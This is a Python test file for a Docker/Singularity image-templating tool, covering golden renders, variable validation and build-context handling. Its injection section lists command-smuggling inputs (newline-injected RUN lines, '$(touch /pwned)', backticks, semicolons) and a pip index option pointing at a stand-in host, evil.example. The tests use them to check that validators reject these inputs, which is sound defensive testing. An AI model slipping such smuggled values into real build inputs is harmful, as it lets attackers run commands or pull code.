"""Image templates: golden renders, variable checking, --set parsing, build contexts.

Golden files live in tests/golden/<template>-{defaults,overrides}.<ext>; run with
UPDATE_GOLDEN=1 to rewrite them after an intended template change (then review the diff).
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from golden_support import check_golden

from orchestrator.catalog import templates
from orchestrator.errors import BuildError, ConfigError


def render_text(name: str, values: dict[str, Any] | None = None) -> str:
    """Template ``name`` rendered with ``values`` over its defaults (pure: text in, text out)."""
    template = templates.load_template(name)
    return template.render(template.resolve(values))


def context_files(name: str, values: dict[str, Any] | None = None, *,
                  workload_dir: Path | None = None) -> dict[str, bytes]:
    """Every file of template ``name``'s build context (:meth:`Template.files`)."""
    template = templates.load_template(name)
    return template.files(template.resolve(values), workload_dir=workload_dir)


#: The bitfusion template's parent_image default is empty ("use the ngc-pytorch content-hash
#: tag", resolved by the build plan, not by the pure renderer), so its goldens pin one.
PARENT = "orchestrate/ngc-pytorch:0123456789ab"

CASES: dict[str, dict[str, dict[str, Any]]] = {
    "ngc-pytorch": {
        "defaults": {},
        "overrides": {
            "base_image": "registry.lab.example/nvidia/pytorch:23.10-py3",
            "install_dir": "/srv/bench",
            "apt_packages": ["numactl", "infiniband-diags"],
            "pip_packages": ["nvidia-ml-py", "numpy<2"],
            "install_nvml": False,
        },
    },
    "bitfusion": {  # the optional client files set: their COPY lines are part of the check
        "defaults": {"parent_image": PARENT, "client_config": "client.yaml",
                     "servers_conf": "servers.conf"},
        "overrides": {
            "parent_image": PARENT,
            "client_deb": "/opt/bitfusion/bitfusion-client-ubuntu2204_5.0.1-2_amd64.deb",
            "client_config": "/opt/bitfusion/client.yaml",
            "servers_conf": "/opt/bitfusion/servers.conf",
            "ca_cert": "/etc/pki/bitfusion/ca.pem",
            "bitfusion_dir": "/etc/bf",
        },
    },
    "program": {  # the optional installer set: its COPY line is part of the check
        "defaults": {"installer": "nsight-compute.run"},
        "overrides": {
            "base_image": "tensorflow/tensorflow:2.2.0-gpu",
            "program_dir": "/opt/lab/tbd-suite/ImageClassification-Resnet_50/TensorFlow2/source",
            "program_source": "https://github.com/tbd-ai/tbd-suite",
            "program_revision": "ad48842549b61e171254cf4a895239022ef509d4",
            "install_dir": "/app/source",
            "requirements": "requirements.txt",
            "pip_setup": ["nvidia-pyindex"],
            "pip_packages": ["tensorflow-model-optimization", "numba"],
            "apt_packages": ["cuda-nvprof-10-1"],
            "installer": "/opt/lab/nsight-compute-linux-2020.1.0.33-28294165.run",
            "extra_path": "/usr/local/NVIDIA-Nsight-Compute-2020.1",
        },
    },
    "program-bitfusion": {
        "defaults": {"parent_image": "orchestrate/program:0123456789ab",
                     "client_config": "client.yaml", "servers_conf": "servers.conf"},
        "overrides": {
            "parent_image": "orchestrate/program:0123456789ab",
            "client_deb": "/opt/lab/bitfusion-client-ubuntu2004_4.0.1-5_amd64.deb",
            "client_config": "/opt/lab/client.yaml",
            "servers_conf": "/opt/lab/servers.conf",
            "ca_cert": "/opt/lab/ca.crt",
            "timezone": "Asia/Shanghai",
            "troubleshooting_tools": True,
            "install_dir": "/workspace/rn50",
        },
    },
    "program-sif": {
        "defaults": {},
        "overrides": {
            "base_tag": "22.06-py3",
            "program_dir": "/opt/lab/gpu_variability_sc22_artifact/sec5a_resnet",
            "program_revision": "7961513beeab98b3113be56db3e904930c820c83",
            "install_dir": "/opt/sec5a_resnet",
            "setup_dir": "cnn_utils/dataloader",
            "pip_packages": ["torchinfo==1.5.2"],
        },
    },
    "dle-convnets": {  # dllogger_dir set: the optional block is part of what is checked
        "defaults": {"parent_image": PARENT, "dllogger_dir": "dllogger"},
        "overrides": {
            "parent_image": PARENT,
            "dle_dir": "/labs/DeepLearningExamples/PyTorch/Classification/ConvNets",
            "dle_install_dir": "/opt/dle",
            "dllogger_dir": "/labs/dllogger",
        },
    },
    "habana": {
        "defaults": {},
        "overrides": {
            "synapse_version": "1.17.1",
            "torch_version": "2.3.1",
            "install_dir": "/srv/bench",
        },
    },
    "singularity": {
        "defaults": {},
        "overrides": {
            "bootstrap": "docker-daemon",
            "base_image": PARENT,
            "threads": 8,
            "nvml_requirement": "nvidia-ml-py==12.535.133",
        },
    },
}


def _golden_name(name: str, case: str) -> str:
    ext = {"dockerfile": "Dockerfile", "singularity": "def"}[templates.load_template(name).kind]
    return f"{name}-{case}.{ext}"


def test_every_template_has_golden_cases() -> None:
    assert sorted(CASES) == templates.template_names()


@pytest.mark.parametrize(
    ("name", "case"), [(n, c) for n in sorted(CASES) for c in ("defaults", "overrides")]
)
def test_render_matches_golden(name: str, case: str) -> None:
    check_golden(_golden_name(name, case), render_text(name, CASES[name][case]))


def test_overrides_reach_the_output() -> None:
    text = render_text("ngc-pytorch", {"base_tag": "23.10-py3"})
    assert "FROM nvcr.io/nvidia/pytorch:23.10-py3\n" in text
    habana = render_text(
        "habana", {"synapse_version": "1.17.1", "torch_version": "2.3.1"})
    assert (
        "FROM vault.habana.ai/gaudi-docker/1.17.1/ubuntu22.04/habanalabs/"
        "pytorch-installer-2.3.1:latest" in habana
    )


def test_unknown_template_lists_known_ones() -> None:
    with pytest.raises(ConfigError) as err:
        templates.load_template("ngc-pytroch")
    message = str(err.value)
    assert "unknown image template 'ngc-pytroch'" in message
    for name in ("bitfusion", "dle-convnets", "habana", "ngc-pytorch", "program",
                 "program-bitfusion", "program-sif", "singularity"):
        assert name in message


def test_check_vars_reports_unknown_and_wrong_types() -> None:
    messages = templates.check_vars(
        "ngc-pytorch", {"bse_tag": "23.10-py3", "apt_packages": "git", "base_tag": 23}
    )
    assert len(messages) == 3
    assert messages[0].startswith("unknown template variable 'bse_tag' for ngc-pytorch "
                                  "(did you mean 'base_tag'?); known: ")
    assert "base_tag" in messages[0] and "apt_packages" in messages[0]
    assert "'apt_packages'" in messages[1] and "expected list of strings" in messages[1]
    assert "'base_tag'" in messages[2] and "expected str" in messages[2]
    assert templates.check_vars("habana", {"install_dir": "/srv"}) == []
    assert templates.check_vars("singularity", {"threads": True}) != []  # a bool is not an int


def test_render_with_bad_values_raises_config_error_with_every_problem() -> None:
    with pytest.raises(ConfigError) as err:
        render_text("ngc-pytorch", {"bse_tag": "x", "install_dir": 3})
    assert len(err.value.problems) == 2


def test_coerce_set_parses_by_declared_type() -> None:
    assert templates.coerce_set("singularity", ["threads=4", "bootstrap=docker-daemon"]) == {
        "threads": 4,
        "bootstrap": "docker-daemon",
    }
    assert templates.coerce_set("ngc-pytorch", ["apt_packages=git, numactl", "pip_packages="]) == {
        "apt_packages": ["git", "numactl"],
        "pip_packages": [],
    }
    # '=' inside the value is kept
    assert templates.coerce_set("ngc-pytorch", ["pip_packages=numpy==1.26"]) == {
        "pip_packages": ["numpy==1.26"]
    }


def test_coerce_set_reports_every_problem() -> None:
    with pytest.raises(ConfigError) as err:
        templates.coerce_set("singularity", ["threads=four", "noequals", "thraeds=2"])
    text = str(err.value)
    assert "3 problems" in text
    assert "expected an integer, got 'four'" in text
    assert "expected KEY=VALUE" in text
    assert "unknown template variable for singularity (did you mean 'threads'?)" in text


def _write_template(root: Path, name: str, body: str, manifest: str) -> None:
    (root / name).mkdir(parents=True)
    (root / name / "Dockerfile.j2").write_text(body)
    (root / name / "template.toml").write_text(manifest)


def test_bool_variables_check_and_coerce(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                         ) -> None:
    """No shipped template has a bool variable now (Gaudi's lazy mode became per cell): a
    template of the test's own has one."""
    _write_template(
        tmp_path, "flags", "FROM {{ base }}\nENV X={{ 1 if fast else 0 }}\n",
        'kind = "dockerfile"\ntemplate = "Dockerfile.j2"\nbase = "debian:bookworm"\n'
        '[variables.fast]\ntype = "bool"\ndefault = true\n',
    )
    monkeypatch.setattr(templates, "IMAGES_DIR", tmp_path)
    assert templates.check_vars("flags", {"fast": False}) == []
    assert templates.check_vars("flags", {"fast": "yes"}) != []
    assert templates.coerce_set("flags", ["fast=no"]) == {"fast": False}
    assert templates.coerce_set("flags", ["fast=TRUE"]) == {"fast": True}
    assert "ENV X=0" in render_text("flags", {"fast": False})


def test_strict_undefined_fails_clearly(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _write_template(
        tmp_path,
        "typo",
        "FROM {{ base }}\nENV X={{ not_declared }}\n",
        'kind = "dockerfile"\ntemplate = "Dockerfile.j2"\nbase = "debian:bookworm"\n',
    )
    monkeypatch.setattr(templates, "IMAGES_DIR", tmp_path)
    with pytest.raises(BuildError) as err:
        render_text("typo")
    assert "'not_declared' is undefined" in str(err.value)
    assert "typo" in str(err.value)


def test_bad_manifest_reports_every_problem(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _write_template(
        tmp_path,
        "bad",
        "FROM x\n",
        'kind = "rpm"\ntemplate = "nope.j2"\ncolour = 1\n'
        '[variables.n]\ntype = "int"\ndefault = "3"\n'
        '[variables.m]\ntype = "float"\ndefault = 1.0\n',
    )
    monkeypatch.setattr(templates, "IMAGES_DIR", tmp_path)
    with pytest.raises(ConfigError) as err:
        templates.load_template("bad")
    fields = {p.field for p in err.value.problems}
    assert fields == {"colour", "kind", "template", "variables.n.default", "variables.m.type"}


def test_bitfusion_without_parent_needs_the_plan() -> None:
    with pytest.raises(BuildError, match="parent_image"):
        render_text("bitfusion")


def render_context(
    name: str, values: dict[str, object], out: Path, *, workload_dir: Path
) -> Path:
    """Write template ``name``'s build context to ``out``; the rendered file's path."""
    templates.write_context(context_files(name, values, workload_dir=workload_dir), out)
    return out / templates.load_template(name).output_name


def test_render_context_writes_dockerfile_workload_and_files(tmp_path: Path) -> None:
    workload = tmp_path / "wl"
    (workload / "sub").mkdir(parents=True)
    (workload / "__init__.py").write_text("X = 1\n")
    (workload / "sub" / "m.py").write_text("Y = 2\n")
    (workload / "__pycache__").mkdir()
    (workload / "__pycache__" / "junk.pyc").write_bytes(b"\0")
    deb = tmp_path / "client.deb"
    deb.write_bytes(b"deb")
    cert = tmp_path / "ca.pem"
    cert.write_text("cert")
    out = tmp_path / "ctx"
    rendered = render_context(
        "bitfusion",
        {"parent_image": PARENT, "client_deb": str(deb), "ca_cert": str(cert)},
        out,
        workload_dir=workload,
    )
    assert rendered == out / "Dockerfile"
    files = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert files == [
        "Dockerfile",
        "ca.pem",
        "client.deb",
        "workload/__init__.py",
        "workload/sub/m.py",
    ]
    text = rendered.read_text()
    assert "COPY client.deb " in text and "COPY ca.pem " in text


def test_render_context_missing_file_variable(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as err:
        render_context(
            "bitfusion",
            {"parent_image": PARENT, "client_deb": str(tmp_path / "nope.deb")},
            tmp_path / "ctx",
            workload_dir=tmp_path,
        )
    text = str(err.value)
    assert "client_deb" in text and "nope.deb" in text and "ca_cert" in text


def test_singularity_context_is_a_def_file(tmp_path: Path) -> None:
    (tmp_path / "wl").mkdir()
    (tmp_path / "wl" / "__init__.py").write_text("")
    rendered = render_context(
        "singularity", {}, tmp_path / "ctx", workload_dir=tmp_path / "wl"
    )
    assert rendered.name == "Singularity.def"
    assert (tmp_path / "ctx" / "workload" / "__init__.py").exists()


def test_child_inherits_forwarded_variables_from_its_parent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(templates, "IMAGES_DIR", tmp_path)
    parent_manifest = (
        'kind = "dockerfile"\ntemplate = "Dockerfile.j2"\nbase = "debian:{{ tag }}"\n'
        '[variables.tag]\ntype = "str"\nkind = "image_tag"\ndefault = "bookworm"\n'
        'description = "Debian release"\n'
    )
    _write_template(tmp_path, "base", "FROM {{ base }}\n", parent_manifest)
    _write_template(
        tmp_path,
        "child",
        "FROM {{ base }}\n",
        'kind = "dockerfile"\ntemplate = "Dockerfile.j2"\nbase = "{{ parent_image }}"\n'
        '[parent]\ntemplate = "base"\nvariable = "parent_image"\nforward = ["tag"]\n'
        '[variables.parent_image]\ntype = "str"\nkind = "image_ref"\ndefault = ""\n',
    )
    tag = templates.load_template("child").variables["tag"]
    assert (tag.type, tag.default) == ("str", "bookworm")
    assert tag.description == "forwarded to base: Debian release"
    # a new default in the parent reaches the child (the loaded templates are not stale)
    (tmp_path / "base" / "template.toml").write_text(parent_manifest.replace("bookworm", "trixie"))
    assert templates.load_template("child").defaults()["tag"] == "trixie"

    child = tmp_path / "child" / "template.toml"
    child.write_text(child.read_text().replace('forward = ["tag"]', 'forward = ["tga"]'))
    with pytest.raises(ConfigError) as err:
        templates.load_template("child")
    assert [(p.field, p.message) for p in err.value.problems] == [
        ("parent.forward", "base declares no 'tga'")
    ]


def test_parent_cycle_is_a_config_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(templates, "IMAGES_DIR", tmp_path)
    for name, other in (("a", "b"), ("b", "a")):
        _write_template(
            tmp_path,
            name,
            "FROM {{ base }}\n",
            'kind = "dockerfile"\ntemplate = "Dockerfile.j2"\nbase = "{{ p }}"\n'
            f'[parent]\ntemplate = "{other}"\nvariable = "p"\n'
            '[variables.p]\ntype = "str"\nkind = "image_ref"\ndefault = ""\n',
        )
    with pytest.raises(ConfigError, match=r"parent.template: cycle: a -> b -> a"):
        templates.load_template("a")
    (tmp_path / "b" / "template.toml").unlink()  # b is no template any more
    with pytest.raises(ConfigError, match=r"parent.template: no template 'b'"):
        templates.load_template("a")


# --------------------------------------------------------------------------- injection

#: Values a hostile or careless user might give any variable.
PAYLOADS = {
    "newline": "x\nRUN touch /pwned",
    "cr": "x\rRUN touch /pwned",
    "semicolon": "x; touch /pwned",
    "subshell": "$(touch /pwned)",
    "backtick": "`touch /pwned`",
    "space": "x y",
    "single_quote": "x'y",
    "double_quote": 'x"y',
    "option": "--index-url=http://evil.example/simple",
    "dollar": "$HOME",
}
#: Kinds that admit anything on one line (host paths, free text).
_ONE_LINE_KINDS = {"host_path", "text"}


def _variable_cases() -> list[tuple[str, str, str]]:
    return [
        (name, vname, payload)
        for name in sorted(CASES)
        for vname, var in templates.load_template(name).variables.items()
        if var.type in ("str", "list")
        for payload in PAYLOADS
    ]


@pytest.mark.parametrize(("name", "vname", "payload"), _variable_cases())
def test_no_variable_lets_a_value_add_a_line_or_run_a_command(
    name: str, vname: str, payload: str
) -> None:
    template = templates.load_template(name)
    var = template.variables[vname]
    text = PAYLOADS[payload]
    value: Any = [text] if var.type == "list" else text
    messages = template.check({vname: value})
    one_line = "\n" not in text and "\r" not in text
    if var.kind in _ONE_LINE_KINDS and one_line and not var.pattern:  # a pattern narrows it
        assert messages == []  # a host path may have spaces or quotes: it is never pasted
        base = dict(CASES[name]["defaults"])
        rendered = render_text(name, {**base, vname: value})
        plain = render_text(name, base)
        assert rendered.count("\n") == plain.count("\n")
        changed = set(rendered.splitlines()) - set(plain.splitlines())
        # only file variables exist of these kinds: they enter as a sanitized file name (a
        # Dockerfile's COPY line, a definition's %files line)
        assert all(re.fullmatch(r"(?:COPY |\s+)[A-Za-z0-9._+-]+ /\S+", line)
                   for line in changed), changed
    else:
        assert len(messages) == 1 and f"'{vname}'" in messages[0], messages
        with pytest.raises(ConfigError) as err:
            templates.coerce_set(name, [f"{vname}={text}"])
        assert err.value.problems[0].field == vname
        assert err.value.problems[0].file == "--set"


def test_every_str_and_list_variable_declares_a_kind() -> None:
    for name in templates.template_names():
        for vname, var in templates.load_template(name).variables.items():
            if var.type in ("str", "list"):
                assert var.kind in templates.KIND_PATTERNS, (name, vname)


@pytest.mark.parametrize(("vname", "value", "quoted"), [
    ("pip_packages", ["numpy<2", "foo[bar,baz]>=1.0,<2"], "'numpy<2' 'foo[bar,baz]>=1.0,<2'"),
    ("apt_packages", ["libfoo:amd64", "numactl=2.0.14-3"], "libfoo:amd64 numactl=2.0.14-3"),
])
def test_list_items_are_quoted_in_shell_lines(vname: str, value: list[str], quoted: str) -> None:
    rendered = render_text("ngc-pytorch", {vname: value})
    assert quoted in rendered


@pytest.mark.parametrize(("name", "values"), [
    ("ngc-pytorch", {"base_image": "registry.lab:5000/nvidia/pytorch:23.10-py3"}),
    ("ngc-pytorch", {"base_image": "orchestrate-test/base:bookworm-torch2.14.1"}),
    ("ngc-pytorch", {"base_image": "nvcr.io/nvidia/pytorch@sha256:" + "0" * 64}),
    ("habana", {"synapse_version": "1.17.1", "os": "ubuntu24.04", "torch_version": "2.3.1"}),
    ("singularity", {"bootstrap": "docker-daemon", "threads": 1024}),
    ("bitfusion", {"parent_image": PARENT, "client_deb": "~/Downloads/Bitfusion Client.deb"}),
])
def test_real_values_are_accepted(name: str, values: dict[str, Any]) -> None:
    assert templates.check_vars(name, values) == []


@pytest.mark.parametrize(("name", "values", "needle"), [
    ("singularity", {"threads": -1}, "less than the minimum 0"),
    ("singularity", {"threads": 100000}, "more than the maximum 1024"),
    ("singularity", {"bootstrap": "shell"}, "does not match the pattern"),
    ("habana", {"synapse_version": "1.18.0+hack"}, "does not match the pattern"),
    ("habana", {"os": "Ubuntu"}, "does not match the pattern"),
    ("ngc-pytorch", {"base_image": "UPPER/case"}, "not a valid image_ref"),
    ("ngc-pytorch", {"apt_packages": ["-o", "APT::x=1"]}, "not a valid apt_package"),
    ("ngc-pytorch", {"apt_packages": ["x"] * 300}, "at most 256 items"),
    ("ngc-pytorch", {"install_dir": "relative/dir"}, "not a valid path"),
    ("ngc-pytorch", {"base_tag": ""}, "not a valid image_tag"),
    ("bitfusion", {"client_deb": "/tmp/Dockerfile"}, "would replace the build context's own"),
    ("bitfusion", {"ca_cert": "/x/workload"}, "would replace the build context's own"),
])
def test_values_outside_the_kind_pattern_or_range(
    name: str, values: dict[str, Any], needle: str
) -> None:
    (message,) = templates.check_vars(name, values)
    assert needle in message


def test_manifest_variables_need_a_kind_and_a_valid_default(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _write_template(
        tmp_path,
        "bad",
        "FROM x\n",
        'kind = "dockerfile"\ntemplate = "Dockerfile.j2"\n'
        '[variables.a]\ntype = "str"\ndefault = "x"\n'
        '[variables.b]\ntype = "str"\nkind = "path"\ndefault = "not/absolute"\n'
        '[variables.c]\ntype = "int"\nkind = "name"\ndefault = 1\n'
        '[variables.d]\ntype = "str"\nkind = "name"\npattern = "(["\ndefault = "x"\n'
        '[variables.e]\ntype = "str"\nkind = "name"\nfile = true\ndefault = "x"\n',
    )
    monkeypatch.setattr(templates, "IMAGES_DIR", tmp_path)
    with pytest.raises(ConfigError) as err:
        templates.load_template("bad")
    got = {p.field: p.message for p in err.value.problems}
    assert set(got) == {"variables.a", "variables.b", "variables.c", "variables.d.pattern",
                        "variables.e"}
    assert "needs a kind" in got["variables.a"]
    assert "default:" in got["variables.b"] and "not a valid path" in got["variables.b"]
    assert "apply to str and list" in got["variables.c"]
    assert "not a regular expression" in got["variables.d.pattern"]
    assert 'kind = "host_path"' in got["variables.e"]


def test_a_file_variable_enters_the_context_under_a_safe_name(tmp_path: Path) -> None:
    deb = tmp_path / "Bitfusion Client $(x).deb"
    deb.write_bytes(b"deb")
    cert = tmp_path / "ca.pem"
    cert.write_text("cert")
    values = {"parent_image": PARENT, "client_deb": str(deb), "ca_cert": str(cert)}
    files = context_files("bitfusion", values, workload_dir=tmp_path)
    assert "Bitfusion_Client___x_.deb" in files
    assert "COPY Bitfusion_Client___x_.deb /tmp/" in files["Dockerfile"].decode()


def test_a_folder_variable_enters_the_context_whole_and_an_unset_one_not_at_all(
        tmp_path: Path) -> None:
    """dle-convnets copies a lab's checkout (a folder) into the image; dllogger_dir is
    optional. The checkout here is a stand-in folder: the project ships none of NVIDIA's."""
    checkout = tmp_path / "Conv Nets (lab)"
    (checkout / "image_classification").mkdir(parents=True)
    (checkout / "main.py").write_text("print('main')\n")
    (checkout / "image_classification" / "logger.py").write_text("# logger\n")
    (checkout / "__pycache__").mkdir()
    (checkout / "__pycache__" / "main.cpython-311.pyc").write_bytes(b"x")
    values = {"parent_image": PARENT, "dle_dir": str(checkout)}
    workload = tmp_path / "workload"
    workload.mkdir()
    files = context_files("dle-convnets", values, workload_dir=workload)
    assert {k for k in files if k.startswith("Conv_Nets__lab_/")} == {
        "Conv_Nets__lab_/main.py", "Conv_Nets__lab_/image_classification/logger.py"}
    text = files["Dockerfile"].decode()
    assert "COPY Conv_Nets__lab_ /workspace/dle-convnets/\n" in text
    assert "dllogger" not in text.lower().replace("orchestrate_dle_dir", "")
    with pytest.raises(ConfigError) as err:
        context_files("dle-convnets", {**values, "dle_dir": str(tmp_path / "nowhere")},
                             workload_dir=workload)
    assert err.value.problems[0].field == "dle_dir"
    assert "file or folder" in err.value.problems[0].message


def test_matrix_image_vars_are_checked_by_kind(tmp_path: Path) -> None:
    from orchestrator.plan.matrix import load_matrix

    path = tmp_path / "m.toml"
    path.write_text(
        '[workload]\nhardware = "v100"\n[hardware.v100]\ndevice = "cuda"\n'
        'image = "ngc-pytorch"\n'
        'image_vars = { base_tag = "23.10-py3\\nRUN id", apt_packages = ["git;id"] }\n'
    )
    with pytest.raises(ConfigError) as err:
        load_matrix(path)
    fields = [p.field for p in err.value.problems]
    assert fields == ["hardware.v100.image_vars", "hardware.v100.image_vars"]
